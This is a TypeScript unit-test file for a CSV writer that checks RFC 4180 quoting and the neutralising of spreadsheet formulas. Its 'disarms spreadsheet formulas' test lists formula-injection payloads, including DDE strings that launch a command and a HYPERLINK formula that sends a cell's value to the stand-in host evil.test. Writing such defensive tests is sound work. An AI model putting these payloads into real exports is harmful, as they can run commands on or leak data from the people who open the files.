import { parse } from 'csv-parse/sync'
import { expect, it } from 'vitest'
import { csvLine, writeCsv } from './write-csv.ts'

it('quotes by RFC 4180', () => {
  expect(
    writeCsv(
      ['Name', 'Note'],
      [
        ['Ada "A"', 'x, y'],
        ['two\nlines', ' spaces '],
        [null, 'plain'],
      ],
    ),
  ).toBe('Name,Note\r\n"Ada ""A""","x, y"\r\n"two\nlines"," spaces "\r\n,plain\r\n')
})

it('quotes a record of one empty cell', () => {
  expect(csvLine([''])).toBe('""\r\n')
})

it('disarms spreadsheet formulas', () => {
  const attacks = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\0=1',
    '＝1',
    "=cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"Error")',
    '"=1+1"',
    ';=1+1',
  ]
  const records = parse(
    writeCsv(
      ['=a', 'b'],
      attacks.map((attack) => [attack, 'x']),
    ),
  ) as string[][]
  expect(records).toHaveLength(attacks.length + 1)
  expect(records[0]![0]).toBe("'=a")
  for (const [i, attack] of attacks.entries()) {
    expect(records[i + 1]).toHaveLength(2)
    expect(records[i + 1]![0]).toBe(/^[";]/.test(attack) ? attack : `'${attack}`)
  }
})

it('leaves plain numbers as numbers', () => {
  expect(csvLine(['-115.50', '-3', -7, 12n, '-1,5', '- 3'])).toBe('-115.50,-3,-7,12,"\'-1,5",\'- 3\r\n')
})
